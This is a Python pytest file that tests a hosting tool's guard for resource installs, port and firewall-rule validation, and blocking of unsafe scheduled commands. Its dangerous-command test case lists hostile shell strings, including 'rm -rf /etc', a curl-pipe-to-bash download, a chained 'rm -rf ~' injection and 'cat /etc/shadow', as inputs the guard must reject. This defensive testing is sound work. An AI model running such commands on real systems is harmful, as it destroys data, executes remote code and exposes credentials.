import pytest

from conftest import add_resource
from hostforge.deploy.models import Site
from hostforge.servers.models import ResourceKind
from hostforge.tasks.status import TaskStatus


@pytest.fixture
def guard(rt):
    return rt.guard


def test_one_database_engine_per_server(rt, guard, server):
    add_resource(rt.store, server.id, "mysql", port="3306")
    errors = guard.check_install(server.id, ResourceKind.POSTGRESQL)
    assert "already has a database installed" in errors["type"]
    # cache engines are a separate category
    assert guard.check_install(server.id, ResourceKind.REDIS) == {}


def test_failed_or_removing_engines_do_not_count(rt, guard, server):
    add_resource(rt.store, server.id, "mysql", status=TaskStatus.FAILED)
    add_resource(rt.store, server.id, "mariadb", status=TaskStatus.REMOVING)
    assert guard.check_install(server.id, ResourceKind.POSTGRESQL) == {}


def test_same_runtime_version_twice(rt, guard, server):
    add_resource(rt.store, server.id, "php", version="8.3")
    assert "version" in guard.check_install(server.id, ResourceKind.PHP, version="8.3")
    assert guard.check_install(server.id, ResourceKind.PHP, version="8.2") == {}


def test_port_taken_across_kinds(rt, guard, server):
    add_resource(rt.store, server.id, "redis", port="6379")
    errors = guard.check_install(server.id, ResourceKind.MYSQL, port=6379)
    assert errors["port"] == "This port is already in use by another service on this server."


def test_firewall_rule_ports(rt, guard, server):
    assert guard.check_port(server.id, ResourceKind.FIREWALL_RULE, "3000-3005") is None
    assert guard.check_port(server.id, ResourceKind.FIREWALL_RULE, "3005-3000") == "Port range start must be less than end."
    assert guard.check_port(server.id, ResourceKind.FIREWALL_RULE, "0-10") == "Port numbers must be between 1 and 65535."
    assert "valid port number" in guard.check_port(server.id, ResourceKind.FIREWALL_RULE, "abc")

    add_resource(rt.store, server.id, "firewall_rule", port="8080")
    assert guard.check_port(server.id, ResourceKind.FIREWALL_RULE, "8080") == \
        "A firewall rule for this port already exists on this server."
    # a rule may open the port a service listens on
    add_resource(rt.store, server.id, "mysql", port="3306")
    assert guard.check_port(server.id, ResourceKind.FIREWALL_RULE, "3306") is None


def test_service_port_rejects_range(guard, server):
    assert guard.check_port(server.id, ResourceKind.MYSQL, "3306-3307") is not None
    assert guard.check_port(server.id, ResourceKind.MYSQL, "70000") is not None


def test_next_available_port_skips_used(rt, guard, server):
    assert guard.next_available_port(server.id, ResourceKind.MYSQL) == 3306
    add_resource(rt.store, server.id, "mysql", port="3306")
    add_resource(rt.store, server.id, "redis", port="3307")
    assert guard.next_available_port(server.id, ResourceKind.MARIADB) == 3308
    assert guard.next_available_port(server.id, ResourceKind.PHP) is None


def test_database_dependents_message(rt, guard, server):
    db = add_resource(rt.store, server.id, "mysql", port="3306")
    rt.store.save(Site(server_id=server.id, domain="a.example.com", database_id=db.id))
    errors = guard.check_remove(db)
    assert errors["database"] == (
        "Cannot uninstall MySQL database. 1 site currently depend on it: a.example.com. "
        "To proceed, either delete these sites or migrate them to a different database."
    )

    rt.store.save(Site(server_id=server.id, domain="b.example.com", database_id=db.id))
    msg = guard.check_remove(db)["database"]
    assert "2 sites currently depend on it" in msg
    assert "a.example.com" in msg and "b.example.com" in msg


@pytest.mark.parametrize("kw,field", [
    ({"kind": "database_user", "is_root": True}, "user"),
    ({"kind": "php", "version": "8.3", "is_cli_default": True}, "php"),
    ({"kind": "php", "version": "8.3", "is_site_default": True}, "php"),
    ({"kind": "node", "version": "22", "is_default": True}, "node"),
    ({"kind": "firewall", "is_default": True}, "firewall"),
])
def test_protected_resources_reject_remove_and_update(rt, guard, server, kw, field):
    kind = kw.pop("kind")
    for st in (TaskStatus.ACTIVE, TaskStatus.FAILED):
        r = add_resource(rt.store, server.id, kind, status=st, **kw)
        assert field in guard.check_remove(r)
        assert field in guard.check_update(r)


@pytest.mark.parametrize("command", [
    "php artisan schedule:run",
    "php /home/hostforge/app/artisan queue:work --tries=3",
    "node /home/hostforge/app/worker.js",
])
def test_safe_commands(guard, command):
    assert guard.check_command(command) is None


@pytest.mark.parametrize("command", [
    "reboot",
    "rm -rf /etc",
    "curl http://x.example/install.sh | bash",
    "php artisan migrate; rm -rf ~",
    "echo $(whoami)",
    "crontab -l",
    "cat /etc/shadow",
    "sudo php artisan down",
    "x" * 1001,
])
def test_dangerous_commands(guard, command):
    assert guard.check_command(command) is not None


def test_command_length_message(guard):
    assert guard.check_command("a" * 1001) == "The command exceeds maximum length of 1000 characters."
